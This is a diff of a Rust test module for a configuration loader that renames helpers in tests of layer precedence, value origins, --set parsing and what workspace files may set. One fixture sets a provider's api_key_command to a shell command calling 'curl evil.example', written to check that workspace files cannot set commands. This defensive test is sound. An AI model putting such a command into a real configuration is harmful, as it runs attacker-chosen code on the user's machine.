@@ -1,8 +1,8 @@
-//! Tests of precedence, of limits of workspace files, and of origins.
+//! Tests of the precedence and the origins of values, and of the limits of workspace files.
 
 use super::*;
 
-fn named(text: &str) -> (Source, String) {
+fn explicit_file(text: &str) -> (Source, String) {
     (Source::File("/f.toml".into()), text.to_owned())
 }
 
@@ -19,21 +19,21 @@ fn origin(config: &Config, key: &str) -> String {
 
 #[test]
 fn later_layers_win_key_by_key() {
-    let keeps = |layers: &[(Source, String)]| {
+    let keep_settings = |layers: &[(Source, String)]| {
         let config = Config::from_layers(layers, JpOwn::default()).unwrap();
         (config.keep_last.turns.unwrap_or_default(), config.keep_first, origin(&config, KEEP_LAST))
     };
-    let all = [
+    let layers = [
         user("[conversation.compaction]\nkeep_first = 9\nkeep_last = 4\n"),
         workspace("[conversation.compaction]\n\nkeep_last = 5\n"),
-        named("conversation.compaction.keep_last = 6\n"),
+        explicit_file("conversation.compaction.keep_last = 6\n"),
         set("conversation.compaction.keep_last=7"),
     ];
-    assert_eq!(keeps(&[]), (3, 0, "built in".into()));
-    assert_eq!(keeps(&all[..1]), (4, 9, "/home/u/config.toml:3".into()));
-    assert_eq!(keeps(&all[..2]), (5, 9, "/w/.jp-compact.toml:3".into()));
-    assert_eq!(keeps(&all[..3]), (6, 9, "/f.toml:1".into()));
-    assert_eq!(keeps(&all), (7, 9, "--set conversation.compaction.keep_last=7".into()));
+    assert_eq!(keep_settings(&[]), (3, 0, "built in".into()));
+    assert_eq!(keep_settings(&layers[..1]), (4, 9, "/home/u/config.toml:3".into()));
+    assert_eq!(keep_settings(&layers[..2]), (5, 9, "/w/.jp-compact.toml:3".into()));
+    assert_eq!(keep_settings(&layers[..3]), (6, 9, "/f.toml:1".into()));
+    assert_eq!(keep_settings(&layers), (7, 9, "--set conversation.compaction.keep_last=7".into()));
 }
 
 #[test]
@@ -59,13 +59,13 @@ fn a_profile_in_another_form_inherits_nothing() {
     };
     assert_eq!(calls(&[user(strategies)]), [Call::named("x")]);
     assert_eq!(calls(&[user(strategies), workspace(policies)]), [Call::reasoning()]);
-    // Only for that profile.
+    // The other profiles keep their form.
     let config = Config::from_layers(&[user(strategies)], JpOwn::default()).unwrap();
     assert_eq!(config.profile("light").unwrap().calls, [Call::reasoning()]);
 }
 
 #[test]
-fn a_one_word_hint_is_merged_as_halves() {
+fn a_one_word_hint_is_merged_as_request_and_response() {
     let layers = [
         user("conversation.tools.t.compaction = \"strip-responses\"\n"),
         workspace("conversation.tools.t.compaction.response = \"keep\"\n"),
@@ -73,47 +73,47 @@ fn a_one_word_hint_is_merged_as_halves() {
     let config = Config::from_layers(&layers, JpOwn::default()).unwrap();
     assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Keep) });
     assert_eq!(origin(&config, "conversation.tools.t.compaction.request"), "/home/u/config.toml:1");
-    let back = [layers[1].clone(), layers[0].clone()];
-    let config = Config::from_layers(&back, JpOwn::default()).unwrap();
+    let reversed = [layers[1].clone(), layers[0].clone()];
+    let config = Config::from_layers(&reversed, JpOwn::default()).unwrap();
     assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Strip) });
 }
 
 #[test]
 fn a_set_value_is_toml_or_a_string() {
-    let with = |pair: &str| Config::from_layers(&[set(pair)], JpOwn::default());
-    assert_eq!(with("conversation.compaction.default_profile=light").unwrap().default_profile, "light");
-    assert_eq!(with("conversation.compaction.default_profile=\"light\"").unwrap().default_profile, "light");
-    let always = with("conversation.compaction.auto.always=[\"light\"]").unwrap().auto.always;
+    let config = |pair: &str| Config::from_layers(&[set(pair)], JpOwn::default());
+    assert_eq!(config("conversation.compaction.default_profile=light").unwrap().default_profile, "light");
+    assert_eq!(config("conversation.compaction.default_profile=\"light\"").unwrap().default_profile, "light");
+    let always = config("conversation.compaction.auto.always=[\"light\"]").unwrap().auto.always;
     assert_eq!(always, ["light"]);
-    let models = with("llm.models.\"p/n\".context_window=5").unwrap().llm.models;
+    let models = config("llm.models.\"p/n\".context_window=5").unwrap().llm.models;
     assert_eq!(models["p/n"].context_window, Some(5));
-    assert_eq!(with("llm.model=p/n").unwrap().llm.model, Some("p/n".parse().unwrap()));
+    assert_eq!(config("llm.model=p/n").unwrap().llm.model, Some("p/n".parse().unwrap()));
     let text = "a \"quoted\" = text\nof two lines";
-    let config =
-        with(&format!("conversation.compaction.profiles.heavy.summary.instructions={text}")).unwrap();
-    assert_eq!(config.profile("heavy").unwrap().calls, [Call::summary(None, Some(text))]);
+    let heavy =
+        config(&format!("conversation.compaction.profiles.heavy.summary.instructions={text}")).unwrap();
+    assert_eq!(heavy.profile("heavy").unwrap().calls, [Call::summary(None, Some(text))]);
 }
 
 #[test]
 fn errors_in_set_have_no_line() {
-    let wrong = |pair: &str| match layer::from_pair(pair) {
+    let error = |pair: &str| match layer::from_pair(pair) {
         Ok(layer) => Config::from_layers(&[layer], JpOwn::default()).unwrap_err(),
-        Err(wrong) => wrong,
+        Err(error) => error,
     };
-    assert!(wrong("keep_last").to_string().starts_with("expected `key=value`"));
-    let unknown = wrong("conversation.compaction.keep=3");
-    assert_eq!(unknown.at, None);
-    assert!(unknown.what.starts_with("unknown field `keep`"), "{unknown}");
-    assert!(wrong("conversation.compaction.keep_last=many").what.contains("expected a whole number"));
-    assert_eq!(wrong("conversation.compaction.default_profile=x").at, None);
+    assert!(error("keep_last").to_string().starts_with("expected `key=value`"));
+    let unknown_key = error("conversation.compaction.keep=3");
+    assert_eq!(unknown_key.at, None);
+    assert!(unknown_key.message.starts_with("unknown field `keep`"), "{unknown_key}");
+    assert!(error("conversation.compaction.keep_last=many").message.contains("expected a whole number"));
+    assert_eq!(error("conversation.compaction.default_profile=x").at, None);
 }
 
-/// Checks a text that is an error in a workspace file and valid in the user's file.
+/// Checks the error of a workspace file that sets a key of the user.
 #[track_caller]
-fn beyond(text: &str, line: usize, what: &str) {
-    let wrong = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap_err();
-    assert!(wrong.is_the_users && wrong.what.contains(what), "{}", wrong.what);
-    assert_eq!(wrong.at.map(|(line, _)| line), Some(line), "{}", wrong.what);
+fn forbidden_in_workspace(text: &str, line: usize, message: &str) {
+    let error = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap_err();
+    assert!(error.is_the_users && error.message.contains(message), "{}", error.message);
+    assert_eq!(error.at.map(|(line, _)| line), Some(line), "{}", error.message);
 }
 
 #[test]
@@ -124,9 +124,9 @@ fn a_workspace_cannot_set_addresses_or_keys() {
         ("[llm.providers.openai]\napi_key_command = [\"sh\", \"-c\", \"curl evil.example\"]\n", 1),
         ("llm = { models.\"p/n\".context_window = 1 }\n", 1),
     ] {
-        beyond(text, line, "is not allowed in a workspace file; only `llm.model` is");
+        forbidden_in_workspace(text, line, "is not allowed in a workspace file; only `llm.model` is");
         assert!(Config::from_layers(&[user(text)], JpOwn::default()).is_ok(), "{text}");
-        assert!(Config::from_layers(&[named(text)], JpOwn::default()).is_ok(), "{text}");
+        assert!(Config::from_layers(&[explicit_file(text)], JpOwn::default()).is_ok(), "{text}");
     }
 }
 
@@ -139,7 +139,8 @@ fn a_workspace_cannot_set_security_options() {
         "permissions = {}",
         "sandbox = \"contained\"",
     ] {
-        beyond(&format!("\n{key}\n"), 2, "cannot set folders, permissions, trust, environment or commands");
+        let message = "cannot set folders, permissions, trust, environment or commands";
+        forbidden_in_workspace(&format!("\n{key}\n"), 2, message);
     }
 }
 
@@ -162,8 +163,8 @@ fn shown_configuration_parses_to_the_same_values() {
     );
     let config = Config::from_layers(&[user(&text)], JpOwn::default()).unwrap();
     for shown in [config.to_toml(false), config.to_toml(true)] {
-        let again = Config::from_layers(&[user(&shown)], JpOwn::default()).unwrap();
-        assert_eq!(again.document().config, config.document().config, "{shown}");
+        let reread = Config::from_layers(&[user(&shown)], JpOwn::default()).unwrap();
+        assert_eq!(reread.document().config, config.document().config, "{shown}");
     }
     assert!(config.to_toml(true).contains("\nkeep_last = 3  # /home/u/config.toml:"));
     assert!(!config.to_toml(false).contains("/home/u"));
@@ -174,6 +175,6 @@ fn explained_configuration_parses_for_any_typed_text() {
     let set = layer::from_pair("conversation.compaction.auto.always=[\n\"default\"\r\n]").unwrap();
     let config = Config::from_layers(&[set], JpOwn::default()).unwrap();
     let shown = config.to_toml(true);
-    let again = Config::from_layers(&[user(&shown)], JpOwn::default());
-    assert_eq!(again.unwrap().document().config, config.document().config, "{shown}");
+    let reread = Config::from_layers(&[user(&shown)], JpOwn::default());
+    assert_eq!(reread.unwrap().document().config, config.document().config, "{shown}");
 }
